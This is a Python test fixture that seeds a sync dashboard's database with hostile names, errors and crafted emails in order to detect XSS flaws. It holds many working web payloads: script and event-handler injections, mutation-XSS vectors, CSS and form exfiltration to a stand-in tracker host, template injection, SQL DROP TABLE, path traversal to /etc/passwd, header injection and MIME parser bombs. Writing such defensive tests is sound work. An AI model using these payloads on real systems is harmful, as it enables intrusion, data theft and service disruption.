"""Hostile texts for names, errors, payloads and mails, and functions that store them everywhere.

Scripts in the texts call `alert('hacked')`, and links and images load from `REMOTE`. If a test
observes either, the dashboard has a vulnerability.
"""

from __future__ import annotations

import base64
import itertools
import json
from collections.abc import Iterable
from dataclasses import dataclass
from uuid import UUID, uuid4

from core.db.pool import Conn
from core.results.text import sanitize

RUN = "alert('hacked')"
REMOTE = "http://tracker.invalid"
PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9Q"
    "DwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
SVG = (
    f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script><image'
    f' href="{REMOTE}/svg"/></svg>'
)

TEXTS: list[tuple[str, str]] = [
    ("script", f"<script>{RUN}</script>"),
    ("script in capitals", f"<ScRiPt\t>{RUN}</ScRiPt >"),
    ("script from elsewhere", f"<script src={REMOTE}/x.js></script>"),
    ("image that fails", f"<img src=x onerror={RUN}>"),
    ("image without an end", f"<img src=x onerror={RUN}//"),
    ("image from elsewhere", f"<img src='{REMOTE}/pixel.gif'>"),
    ("double quote", f'" onmouseover="{RUN}" autofocus onfocus="{RUN}" x="'),
    ("single quote", f"' onmouseover='{RUN}' autofocus onfocus='{RUN}' x='"),
    ("no quote", f" onmouseover={RUN} autofocus onfocus={RUN} "),
    ("backtick", f"`onmouseover={RUN}`"),
    ("out of the attribute", f'"><script>{RUN}</script>'),
    ("out of the title", f"</title><script>{RUN}</script>"),
    ("out of the text area", f"</textarea></pre></option></select><script>{RUN}</script>"),
    (
        "out of the table",
        f"</td></tr></table><form action={REMOTE}><input name=token autofocus><button>go",
    ),
    ("out of the page", f"</main></body></html><script>{RUN}</script>"),
    ("javascript link", f"javascript:{RUN}"),
    ("javascript link, hidden", f"jav\tascript:{RUN}"),
    ("javascript link, encoded", f"&#106;avascript:{RUN}"),
    ("data link", f"data:text/html,<script>{RUN}</script>"),
    (
        "data link, encoded",
        "data:text/html;base64," + base64.b64encode(f"<script>{RUN}</script>".encode()).decode(),
    ),
    ("vbscript link", 'vbscript:msgbox("hacked")'),
    ("address of another site", "//tracker.invalid/x"),
    ("svg", SVG),
    ("svg that animates", f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>"),
    ("svg link", f'<svg><a xlink:href="javascript:{RUN}"><text y=20>here</text></a></svg>'),
    (
        "mathml",
        (
            f'<math><maction actiontype="statusline#{REMOTE}"'
            f' xlink:href="javascript:{RUN}">x</maction></math>'
        ),
    ),
    ("mutation by svg", f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">'),
    (
        "mutation by mathml",
        f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    ),
    ("mutation by noscript", f'<noscript><p title="</noscript><img src=x onerror={RUN}>">'),
    ("mutation by template", f"<template><style></template><img src=x onerror={RUN}></style>"),
    ("mutation by xmp", f'<xmp><p title="</xmp><svg onload={RUN}>">'),
    ("details", f"<details open ontoggle={RUN}>x</details>"),
    ("iframe", f'<iframe srcdoc="<script>{RUN}</script>" src="javascript:{RUN}"></iframe>'),
    ("object", f'<object data="javascript:{RUN}"></object><embed src="{REMOTE}/x.swf">'),
    ("base", f'<base href="{REMOTE}/">'),
    ("refresh", f'<meta http-equiv="refresh" content="0;url={REMOTE}/">'),
    (
        "policy",
        '<meta http-equiv="Content-Security-Policy" content="script-src \'unsafe-inline\'">',
    ),
    (
        "style sheet",
        f'<link rel=stylesheet href="{REMOTE}/x.css"><link rel=dns-prefetch href="{REMOTE}">',
    ),
    (
        "style that tells",
        f"<style>input[value^=a]{{background:url({REMOTE}/a)}} @import '{REMOTE}/i.css';</style>",
    ),
    (
        "style attribute",
        f'<p style="background:url({REMOTE}/s);behavior:url(x);width:expression({RUN})">x</p>',
    ),
    ("form that sends the token", f'<button form="act" formaction="{REMOTE}/">press</button>'),
    ("button that acts", '<button form="act" formaction="/parked/discard-all">press</button>'),
    ("comment", f"--><script>{RUN}</script><!--"),
    ("conditional comment", f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->"),
    ("CDATA", f"]]><script>{RUN}</script><![CDATA["),
    (
        "processing instruction",
        f"<?xml-stylesheet href='javascript:{RUN}'?><!DOCTYPE x [<!ENTITY y 'z'>]>",
    ),
    ("template, jinja", "{{7*7}}{{config}}{{ ''.__class__.__mro__ }}"),
    ("template, statement", "{% include '/etc/passwd' %}{# gone #}{%raw%}"),
    ("template, others", "${7*7}#{7*7}<%= 7*7 %>[[7*7]]"),
    ("format", "%s%n%(name)s{0}{name!r}"),
    (
        "entities",
        f"&lt;script&gt;{RUN}&lt;/script&gt; &amp;lt; &#x3c;img src=x onerror={RUN}&#x3e;",
    ),
    (
        "event stream",
        f"x\r\revent: live\rdata: <img src=x onerror={RUN}>\r\revent: end\ndata: \n\n",
    ),
    (
        "header",
        "x\r\nSet-Cookie: polling_session=theirs\r\nLocation: " + REMOTE + "\r\n\r\n<script>",
    ),
    ("sql", "'; DROP TABLE sync_task; --"),
    ("path", "../../../../etc/passwd\\..\\..\\boot.ini"),
    ("nulls and controls", "a\x00b\x01c\x0bd\x0ce\x1bf\x7fg\u2400h%00&#0;\x85"),
    ("turned around", "\u202egnp.exe\u202c \u2066\u202b\u2069 \u200f"),
    ("invisible", "\u200b\u200d\ufeff\u2060\u00ad\ue0001\U000e0041"),
    (
        "wide brackets",
        f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e \u02bascript\u02ba \u2039img\u203a",
    ),
    ("long s", f"<\u017fcript>{RUN}</\u017fcript> <\u0130mg src=x onerror={RUN}>"),
    ("half characters", "\ud800<script>\udfff"),
    ("many marks", "Z" + "\u0351\u0300\u0340" * 300),
    ("utf-7", "+ADw-script+AD4-alert('hacked')+ADw-/script+AD4-"),
    ("one long word", "W" * 60_000),
    ("long and hostile", f"<script>{RUN}</script>" * 2_000),
    ("many lines", "\n" * 5_000 + "end"),
    ("nothing", ""),
    ("blanks", " \t\n "),
    ("svg file", SVG),
    (
        "svg as an image",
        f'<img src="data:image/svg+xml;base64,{base64.b64encode(SVG.encode()).decode()}">',
    ),
    (
        "page as an image",
        (
            f'<img src="data:text/html,{REMOTE}"><img src="data:image/png,x"><img'
            ' src="/sign-out"><img src="//x">'
        ),
    ),
]
"""The name and the text of each case. `fill` sanitizes the text as the engine does."""


def _mail(
    body: str, headers: str = "Content-Type: text/html; charset=utf-8", subject: str = "Hello"
) -> bytes:
    return (
        f"From: a@b.invalid\r\nTo: c@d.invalid\r\nSubject: {subject}\r\nMIME-Version:"
        f" 1.0\r\n{headers}\r\n\r\n{body}".encode()
    )


def _multipart(*parts: str, kind: str = "mixed", boundary: str = "xx") -> bytes:
    body = "".join(f"--{boundary}\r\n{part}\r\n" for part in parts) + f"--{boundary}--\r\n"
    return _mail(body, f'Content-Type: multipart/{kind}; boundary="{boundary}"')


def _nested(depth: int) -> bytes:
    opened = "".join(
        f'Content-Type: multipart/mixed; boundary="b{n}"\r\n\r\n--b{n}\r\n' for n in range(depth)
    )
    return (
        f"From: a@b.invalid\r\nMIME-Version: 1.0\r\n{opened}Content-Type:"
        f" text/html\r\n\r\n<script>{RUN}</script>".encode()
    )


_HTML = (
    f"<p>visible words</p><script>{RUN}</script><img src=x onerror={RUN}><img"
    f" src='{REMOTE}/pixel.gif'>"
)
_ENCODED = base64.b64encode(PNG).decode()
_INLINE = (
    "Content-Type: image/png\r\nContent-ID: <pic>\r\nContent-Transfer-Encoding:"
    f" base64\r\n\r\n{_ENCODED}"
)

_SUBJECT = base64.b64encode(f"<script>{RUN}</script>".encode()).decode()

MAILS: list[tuple[str, bytes]] = [
    (
        "all texts as HTML",
        _mail("".join(f"<div>{sanitize(text)}</div>" for _, text in TEXTS if len(text) < 1_000)),
    ),
    ("html", _mail(_HTML)),
    (
        "text and html",
        _multipart(
            f"Content-Type: text/plain\r\n\r\n{_HTML}", f"Content-Type: text/html\r\n\r\n{_HTML}"
        ),
    ),
    (
        "cid",
        _multipart(
            'Content-Type: text/html\r\n\r\n<img src="cid:pic"><img src="cid:svg">'
            f'<img src="cid:{REMOTE}">{_HTML}',
            _INLINE,
            f"Content-Type: image/svg+xml\r\nContent-ID: <svg>\r\n\r\n{SVG}",
            kind="related",
        ),
    ),
    (
        "svg called png",
        _multipart(
            'Content-Type: text/html\r\n\r\n<img src="cid:pic">',
            f"Content-Type: image/png\r\nContent-ID: <pic>\r\n\r\n{SVG}",
            kind="related",
        ),
    ),
    (
        "utf-7",
        _mail(
            "+ADw-script+AD4-alert('hacked')+ADw-/script+AD4- visible words",
            "Content-Type: text/html; charset=utf-7",
        ),
    ),
    ("charset that is none", _mail(_HTML, 'Content-Type: text/html; charset="x\'><script>"')),
    (
        "charset that is slow",
        _mail(_HTML + "-" + "9" * 2_000, "Content-Type: text/html; charset=punycode"),
    ),
    (
        "charset that escapes",
        _mail(
            "\\x3cscript\\x3e" + RUN + "\\x3c/script\\x3e",
            "Content-Type: text/html; charset=unicode_escape",
        ),
    ),
    (
        "charset of two bytes",
        _mail("", "Content-Type: text/html; charset=utf-16") + _HTML.encode("utf-16"),
    ),
    (
        "iso-2022-jp",
        _mail(
            '<img alt="\x1b$B"><img src=x onerror=' + RUN + ">\x1b(B",
            "Content-Type: text/html; charset=iso-2022-jp",
        ),
    ),
    (
        "bad base64",
        _mail(
            "!!!PHNjcmlwdD4=???" + _HTML,
            "Content-Type: text/html\r\nContent-Transfer-Encoding: base64",
        ),
    ),
    ("encoded subject", _mail(_HTML, subject=f"=?utf-8?B?{_SUBJECT}?=")),
    ("bytes that are not text", _mail(_HTML, subject="caf").replace(b"caf", b"caf\xe9\xff\x00")),
    (
        "boundary that hides",
        _multipart(f"Content-Type: text/html\r\n\r\n{_HTML}", boundary="x y';\""),
    ),
    ("no end", _multipart(f"Content-Type: text/html\r\n\r\n{_HTML}")[:-8]),
    ("no headers", _HTML.encode()),
    ("deep", _nested(400)),
    ("deeper", _nested(5_000)),
    ("many parts", _multipart(*["Content-Type: text/html\r\n\r\n<b>part</b>"] * 3_000)),
    ("mails in mails", b"Content-Type: message/rfc822\r\n\r\n" * 2_000 + _mail(_HTML)),
    ("long header", b"Content-Type: multipart/mixed" + b';"' * 400_000 + b"\r\n\r\nx"),
    (
        "attachment with a name",
        _multipart(
            f"Content-Type: text/html\r\n\r\n{_HTML}",
            f'Content-Type: text/html; name="<script>{RUN}</script>"\r\n'
            f"Content-Disposition: attachment\r\n\r\n{_HTML}",
        ),
    ),
    ("types that are none", _multipart(f"Content-Type: <script>{RUN}</script>\r\n\r\n{_HTML}")),
    ("tags without end", _mail("<div>" * 100_000)),
    ("attributes without end", _mail("<p " + " ".join(f"a{n}" for n in range(50_000)) + ">")),
]
"""The name and the bytes of each mail."""


@dataclass(frozen=True)
class Filled:
    """The ids of the rows that hold a text."""

    name: str
    text: str
    account: UUID
    run: UUID
    task: int
    content: int
    child: int
    html: int
    deletion: int

    @property
    def pages(self) -> list[str]:
        """The pages that show only this text."""
        return [
            f"/runs?account={self.account}", f"/runs/{self.run}",
            f"/runs/{self.run}?parent={self.task}", f"/tasks/{self.task}",
            f"/parked?account={self.account}", f"/content?account={self.account}",
            f"/content/{self.content}", f"/content/{self.child}", f"/content/{self.html}",
            f"/deletions/{self.deletion}",
        ]  # fmt: skip


LISTS = [
    "/",
    "/runs",
    "/parked",
    "/content",
    "/accounts",
    "/integrations",
    "/deletions",
    "/users",
    "/audit",
    "/subscriptions",
]
"""Pages that show many texts together."""

_numbers = itertools.count(1)

ACCOUNT = """
INSERT INTO user_integration (id, user_id, integration_domain, name, identity, config, credentials,
    sync_status, status_reason,
    status_detail, limit_group)
VALUES (%(account)s, %(user)s, %(domain)s, %(text)s, %(identity)s, %(json)s, 'sealed', 'error',
    'credentials', %(text)s, %(text)s)
"""
RUNNING = """
INSERT INTO sync_run (id, user_integration_id, integration_domain, lane, trigger, state, start_seq,
    error)
VALUES (%(run)s, %(account)s, %(domain)s, 'live', 'manual', 'running', 1, %(text)s)
"""
ENDED = """
INSERT INTO sync_run (id, user_integration_id, integration_domain, lane, trigger, state, start_seq,
    error, finished_at)
VALUES (gen_random_uuid(), %(account)s, %(domain)s, 'live', 'manual', 'failed', 1, %(text)s, now())
"""
TASK = """
INSERT INTO sync_task (run_id, user_integration_id, integration_domain, lane, parent_id, type,
    payload, dedup_key, state, reason,
    errors, attempts, followups, finished_at)
VALUES (%(run)s, %(account)s, %(domain)s, 'live', %(parent)s, 'step', %(json)s,
    decode(md5(random()::text), 'hex'), 'parked',
    %(text)s, jsonb_build_array(jsonb_build_object('at', now(), 'attempt', 1, 'error',
        %(text)s::text)), 1, %(followups)s, now())
RETURNING id
"""
BLOCK = """
INSERT INTO limit_block (key, until, reason)
VALUES ('account/' || %(account)s::text || '/' || %(id)s, now() + interval '1 day', %(text)s)
"""
CONTENT = """
INSERT INTO user_integration_content (user_integration_id, integration_domain, external_id, kind,
    parent, name, content_type,
    content_text, content_bytes, size, metadata, digest, content_seq, metadata_seq)
VALUES (%(account)s, %(domain)s, %(id)s, %(text)s, %(parent)s, %(text)s, %(type)s, %(body)s,
    %(bytes)s, 1, %(json)s, '', 1, 1)
RETURNING id
"""
SUBSCRIPTION = """
INSERT INTO subscription (id, name, kind, channel, user_id, only_kind, address, sealed, state,
    reason, failing_since, due_at)
VALUES (gen_random_uuid(), %(text)s, 'content', 'webhook', %(user)s, %(text)s, %(text)s, 'sealed',
    'paused', %(text)s, now(), now())
"""
HELD = """
INSERT INTO held_deletion (user_integration_id, run_id, source, parent, vanished, total)
VALUES (%(account)s, %(run)s, 'listing', %(id)s, 2, 3) RETURNING id
"""
HELD_ITEM = """
INSERT INTO held_deletion_item (held_deletion_id, external_id) VALUES (%(deletion)s, %(item)s)
"""


def fill(
    conn: Conn, name: str, text: str, *, user: str | None = None, domain: str = "locked"
) -> Filled:
    """Insert an account, two runs, two parked tasks, three items and a held deletion of two.

    The text is in every field whose value comes from outside.

    Args:
      conn: A connection.
      name: The name of the text.
      text: The text.
      user: The owner of the account. Default: None, which makes the text the user's id too.
      domain: The domain of the integration.
    """
    held = sanitize(text) or ""
    number = next(_numbers)
    short = _bytes(held, 1_000) + f" {number}"
    values = {
        "account": uuid4(), "run": uuid4(), "text": held, "domain": domain,
        "identity": f"{held} {number}", "user": user or f"{held[:400]} {number}",
        "json": json.dumps({held: held, "list": [held]}), "id": short, "parent": None,
        "followups": 1, "type": held, "body": held, "bytes": None,
    }  # fmt: skip

    def insert(statement: str, **more: object) -> int:
        cursor = conn.execute(statement.encode(), values | more)
        row = cursor.fetchone() if cursor.description else None
        return int(row[0]) if row else 0

    for statement in (ACCOUNT, RUNNING, ENDED, BLOCK, SUBSCRIPTION):
        insert(statement)
    task = insert(TASK)
    insert(TASK, parent=task, followups=0)
    content = insert(CONTENT)
    child = insert(CONTENT, id=f"{short} child", parent=short)
    html = insert(CONTENT, id=f"{short} html", type="text/html", parent=short)
    deletion = insert(HELD)
    for item in (f"{short} child", f"{short} html"):
        insert(HELD_ITEM, deletion=deletion, item=item)
    ids = (task, content, child, html, deletion)
    return Filled(name, held, values["account"], values["run"], *ids)


def fill_mails(
    conn: Conn, account: UUID, mails: Iterable[tuple[str, bytes]] = MAILS, domain: str = "locked"
) -> dict[str, int]:
    """Insert mails as content of an account, and return their ids by name."""
    found = {}
    for name, mail in mails:
        values = {
            "account": account, "domain": domain, "id": f"mail: {name}", "text": name,
            "parent": None, "type": "message/rfc822", "body": None, "bytes": mail, "json": "{}",
        }  # fmt: skip
        row = conn.execute(CONTENT.encode(), values).fetchone()
        assert row is not None
        found[name] = int(row[0])
    return found


def fill_all(conn: Conn, *, user: str | None = None, domain: str = "locked") -> list[Filled]:
    """Insert rows for every text."""
    return [fill(conn, name, text, user=user, domain=domain) for name, text in TEXTS]


def _bytes(text: str, most: int) -> str:
    return text.encode()[:most].decode(errors="ignore")
